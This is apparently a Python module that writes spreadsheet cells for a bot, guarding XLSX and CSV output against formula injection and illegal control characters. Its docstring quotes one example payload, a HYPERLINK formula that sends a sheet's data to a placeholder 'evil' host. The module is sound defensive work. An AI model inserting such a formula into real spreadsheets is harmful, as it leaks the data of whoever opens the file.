"""Cells of every spreadsheet the bot writes (reports, import templates; XLSX and CSV).

Names, topics and other values come from people and imported files. Two rules keep a written
file harmless and readable:

- No value becomes a formula. A text starting with ``= + - @`` (or a tab or carriage return)
  would run as a formula in Excel or LibreOffice: ``=HYPERLINK("http://evil/?"&A1, "Open")``
  sends the sheet's data away. In XLSX every text is written as a text cell (never a formula,
  never an error value) and a risky one also gets the "quote prefix" style, so it stays text
  even when edited; the text shown is exactly the value. In CSV, where there are no types, a
  risky value is prefixed with ``'`` (plain numbers like ``+79990000002`` or ``-5`` are not
  risky and stay as they are); the import reader takes that prefix off again.
- No value carries a control character an XLSX file cannot hold (a NUL in a name would make
  the whole report fail): such characters are dropped.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 forbids these; openpyxl refuses them (IllegalCharacterError).
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
QUOTE = "'"


def clean_text(value: str) -> str:
    """``value`` without the control characters a spreadsheet cannot hold."""
    return ILLEGAL_CHARACTERS.sub("", value)


def is_risky(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula."""
    return text.startswith(FORMULA_START) and not PLAIN_NUMBER.match(text)


def csv_cell(value: Any) -> str:
    """A value for a CSV file: text that no spreadsheet program runs as a formula."""
    text = "" if value is None else clean_text(str(value))
    return QUOTE + text if is_risky(text) else text


def csv_row(values: Any) -> list[str]:
    return [csv_cell(v) for v in values]


def unquote_csv_text(text: str) -> str:
    """The value :func:`csv_cell` wrote (for the import reader)."""
    if text.startswith(QUOTE) and is_risky(text[1:]):
        return text[1:]
    return text


def set_cell(cell: Any, value: Any) -> Any:
    """Write ``value`` into an openpyxl cell: numbers as numbers, every text as a text cell
    (risky texts with the quote prefix), dates as dates. Returns the cell."""
    if isinstance(value, str):
        text = clean_text(value)
        cell.value = text
        cell.data_type = "s"  # openpyxl would make "=…" a formula and "#N/A" an error
        if is_risky(text):
            cell.quotePrefix = True
        return cell
    cell.value = value
    return cell


def write_cell(ws: Any, row: int, column: int, value: Any) -> Any:
    """``ws.cell(row, column)`` with ``value`` written by :func:`set_cell`."""
    return set_cell(ws.cell(row=row, column=column), value)


def write_row(ws: Any, row: int, values: Any) -> None:
    """Write ``values`` into ``row`` from the first column on, each by :func:`set_cell`."""
    for column, value in enumerate(values, start=1):
        write_cell(ws, row, column, value)
